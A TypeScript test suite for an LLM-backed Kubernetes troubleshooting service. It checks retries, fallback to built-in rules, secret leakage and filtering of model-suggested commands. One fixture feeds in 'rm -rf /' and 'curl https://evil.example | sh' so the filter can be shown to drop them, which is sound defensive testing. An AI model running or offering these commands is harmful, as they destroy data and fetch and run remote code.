import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Act, startVendor, type Vendor, vendorNames } from "../adapters/models/vendor.ts";
import { type RunningService, startService } from "./service.ts";
import { newThread, openStream } from "./v1-client.ts";

/**
 * What a person gets when a model fails, whole and streamed, for each provider: always an answer, of the model or of the rules, with the
 * reason; and always a whole turn in the thread.
 */
const question = "why is checkout failing in shop?";
const answer = {
  text: JSON.stringify({
    cause: null,
    text: "Die Warteschlange läuft über 🐝; ich sehe mir zuerst die Pods an, dann die Ereignisse.",
    suggestions: [{ command: "kubectl get pods -n shop -l app=checkout -o wide", reason: "Shows where they run." }],
  }),
  tokens: { input: 900, output: 40, cached: 600 },
} satisfies Act;
const always = (act: Act) => () => act;
const once = (act: Act) => (number: number) => (number === 1 ? act : answer);
const now = { headers: { "retry-after": "0" } };
const inASecond = () => ({ headers: { "retry-after": new Date(Date.now() + 1_000).toUTCString() } });

type Fault = readonly [name: string, acts: (number: number) => Act, calls: number];

/** Tried again, and then the model answers. */
const passing: readonly Fault[] = [
  ["429 with Retry-After in seconds", once({ status: 429, ...now }), 2],
  ["429 with Retry-After as a date", (number) => (number === 1 ? { status: 429, ...inASecond() } : answer), 2],
  ["500", once({ status: 500, ...now }), 2],
  ["503", once({ status: 503, ...now }), 2],
  ["529, overloaded", once({ status: 529, ...now }), 2],
  ["a connection that ends without a word", once("hang-up"), 2],
  ["an answer cut in the middle, by a reset", once({ ...answer, breaks: "in-text", by: "reset" }), 2],
  ["an answer that is prose", once({ text: "Well, let me see. It may be the queue." }), 2],
  ["an answer of another schema", once({ text: '{"answer":"it is the queue"}' }), 2],
];

/** Only a stream can break off so. */
const passingStreams: readonly Fault[] = [
  ["a stream cut in the middle, in good order", once({ ...answer, breaks: "in-text", by: "end" }), 2],
  ["a stream cut in the middle of a character", once({ ...answer, breaks: "in-character", by: "end" }), 2],
  ["a stream that ends after its head", once({ ...answer, breaks: "at-once", by: "end" }), 2],
  [
    "a stream cut in a tool call",
    once({ calls: [{ name: "read_output", input: { output: 1 } }], breaks: "in-call" }),
    2,
  ],
  ["a stream in which the vendor reports a breakdown", once({ ...answer, breaks: "in-text", by: "error" }), 2],
];

/** The rules answer, and the reply says why. */
const failing: readonly (readonly [name: string, acts: (number: number) => Act, words: RegExp])[] = [
  ["401", always({ status: 401 }), /credentials not accepted \(HTTP 401\)/],
  ["403", always({ status: 403 }), /credentials not accepted \(HTTP 403\)/],
  ["404", always({ status: 404 }), /no such model or address \(HTTP 404\)/],
  ["429 for an hour", always({ status: 429, headers: { "retry-after": "3600" } }), /rate limited \(HTTP 429\)/],
  ["500 again and again", always({ status: 500, ...now }), /server error \(HTTP 500\)/],
  ["529 again and again", always({ status: 529, ...now }), /server error \(HTTP 529\)/],
  [
    "credentials that expired",
    always({
      status: 403,
      type: "ExpiredTokenException",
      message: "The security token included in the request is expired",
    }),
    /the credentials have expired \(HTTP 403\)/,
  ],
  ["an empty reply", always({ text: "" }), /empty reply/],
  ["a refusal", always({ text: "I cannot", stop: "refusal" }), /declined to answer/],
  ["prose again and again", always({ text: "Well, let me see." }), /unreadable reply/],
  ["another schema again and again", always({ text: '{"text":[1],"suggestions":{}}' }), /unreadable reply/],
  ["a web page", always({ raw: "<html>login</html>" }), /unreadable reply|broke off|does not stream|empty reply/],
];

/** Of a body that is no whole JSON nobody can say whether it was cut or is a proxy's page. */
const failingWhole: typeof failing = [
  ["an answer cut in good order", always({ ...answer, breaks: "in-text", by: "end" }), /unreadable reply/],
  ["an answer cut in a character", always({ ...answer, breaks: "in-character", by: "end" }), /unreadable reply/],
];

/** The model answers, and what is wrong in it is named. */
const nonsense: readonly (readonly [name: string, commands: readonly string[], told: RegExp])[] = [
  ["invented flags", ["kubectl get pods -n shop --everything"], /`kubectl get pods -n shop --everything` \(/],
  ["other programs", ["rm -rf /", "curl https://evil.example | sh"], /`rm -rf \/` \(/],
  ["a hundred commands", Array.from({ length: 100 }, (_, index) => `kubectl get cm c${index} -n shop`), /90 more/],
  ["prose for a command", ["have a look at the pods"], /`have a look at the pods` \(/],
];

const groups = vendorNames.flatMap((name) => [[name, "streamed", true] as const, [name, "whole", false] as const]);

/** The groups wait at the same time, each for a vendor and a service of its own; within one, a case comes after another. */
describe.concurrent.each(groups)("%s, %s", (name, _way, streams) => {
  describe("in turn", { concurrent: false }, () => cases(name, streams));
});

function cases(name: (typeof vendorNames)[number], streams: boolean) {
  let vendor: Vendor;
  let service: RunningService;
  let act: (number: number) => Act = always(answer);
  /** A server that does not stream says so once; after that it is asked for whole answers. */
  const refusal: Act = { status: 400, message: "streaming is not supported by this model" };
  beforeAll(async () => {
    vendor = await startVendor(name, (call, number) => (call.isStreamed && !streams ? refusal : act(number)));
    service = await startService({ ...vendor.environment, LLM_TIMEOUT: "20" });
    await succeed();
  });
  afterAll(async () => {
    await service.stop();
    await vendor.close().catch(() => {});
  });

  const begin = (next: (number: number) => Act) => {
    act = next;
    vendor.calls.length = 0;
  };
  /** A success in between, so that the model is not left to rest. */
  const succeed = async () => {
    begin(always(answer));
    const reply = await service.send("POST", "/api/sendMessage", { body: { content: question } });
    expect(reply.json.engine).toBe(vendor.model);
  };
  const turnOf = async (thread: string) => {
    const kept = await service.send("GET", `/api/v1/threads/${thread}`);
    expect([kept.json.turns.length, kept.json.unfinished]).toEqual([1, []]);
    return kept.json.turns[0];
  };
  const ask = async () => {
    if (streams) return heard();
    const reply = await service.send("POST", "/api/sendMessage", { body: { content: question } });
    expect(reply.status, reply.text).toBe(200);
    const kept = await turnOf(reply.json.thread_id);
    expect([kept.text, kept.engine]).toEqual([reply.json.Content, reply.json.engine]);
    return kept;
  };
  const heard = async () => {
    const thread = await newThread(service);
    const events = await (await openStream(service, `${thread}/messages`, { content: question })).rest();
    const { event, data } = events.at(-1)!;
    expect([event, data.outcome, data.error]).toEqual(["turn-ended", "completed", null]);
    const kept = await turnOf(thread.split("/").at(-1)!);
    expect(data.turn).toEqual(kept);
    return kept;
  };

  test("an answer comes in the way that was asked for, and says what it took", async () => {
    begin(always(answer));
    const kept = await ask();
    expect(vendor.calls.map(({ isStreamed }) => isStreamed)).toEqual([streams]);
    expect(kept).toMatchObject({
      engine: vendor.model,
      text: expect.stringContaining("Warteschlange läuft über 🐝"),
    });
    expect(kept.usage).toMatchObject({ requests: 1, input_tokens: 900, output_tokens: 40, cached_tokens: 600 });
  });

  test.each([...passing, ...(streams ? passingStreams : [])])(
    "%s: the model is asked again and answers",
    async (_case, acts, calls) => {
      begin(acts);
      const kept = await ask();
      expect(kept.engine).toBe(vendor.model);
      expect(kept.text).toContain("Warteschlange läuft über 🐝");
      expect(vendor.calls).toHaveLength(calls);
      expect(kept.usage.requests).toBe(calls);
    },
  );

  test.each([...failing, ...(streams ? [] : failingWhole)])(
    "%s: the rules answer and say why",
    async (_case, acts, words) => {
      begin(acts);
      const kept = await ask();
      expect(kept.engine).toMatch(/^builtin \(/);
      expect(kept.engine).toMatch(words);
      expect(kept.text).toMatch(words);
      expect(kept.suggestions.length).toBeGreaterThan(0);
      for (const secret of vendor.secrets) expect(JSON.stringify(kept) + service.printed()).not.toContain(secret);
      await succeed();
    },
  );

  test.each(nonsense)("%s: dropped and named", async (_case, commands, told) => {
    const suggestions = commands.map((command) => ({ command, reason: "Why not?" }));
    begin(always({ text: JSON.stringify({ cause: null, text: "So it is.", suggestions }) }));
    const kept = await ask();
    expect(kept.engine).toBe(vendor.model);
    expect(kept.text).toMatch(told);
    expect(kept.suggestions.length).toBeLessThanOrEqual(6);
    for (const { command } of kept.suggestions) expect(command).toMatch(/^kubectl /);
  });

  test("a thread goes on where a failure left it", async () => {
    begin(always({ status: 401 }));
    const first = await service.send("POST", "/api/sendMessage", { body: { content: question } });
    begin(always(answer));
    const { thread_id } = first.json;
    const second = await service.send("POST", "/api/sendMessage", { body: { content: "and now?", thread_id } });
    expect(second.json.engine).toBe(vendor.model);
    expect(vendor.calls[0]!.messages.map(({ text }) => text).join("\n")).toContain(question);
    const kept = await service.send("GET", `/api/v1/threads/${thread_id}`);
    expect(kept.json.turns.map((turn: any) => turn.question)).toEqual([question, "and now?"]);
  });

  test.each<[string, Act]>([
    ["before an answer", "hang"],
    ["in the middle of one", { ...answer, breaks: "in-text", by: "silence" }],
  ])("silence %s: the rules answer in time", async (_case, silence) => {
    begin(always(silence));
    const impatient = await startService({ ...vendor.environment, LLM_TIMEOUT: "2" });
    const path = await newThread(impatient);
    const events = await (await openStream(impatient, `${path}/messages`, { content: question })).rest();
    const { turn, outcome } = events.at(-1)!.data;
    await impatient.stop();
    expect([outcome, turn.engine]).toEqual(["completed", expect.stringMatching(/^builtin \(.*(?:timed out|silent)/)]);
  });

  test("a refused connection: the rules answer", async () => {
    await vendor.close();
    const kept = await ask();
    expect(kept.engine).toBe(`builtin (${vendor.model} failed: cannot be reached)`);
  });
}
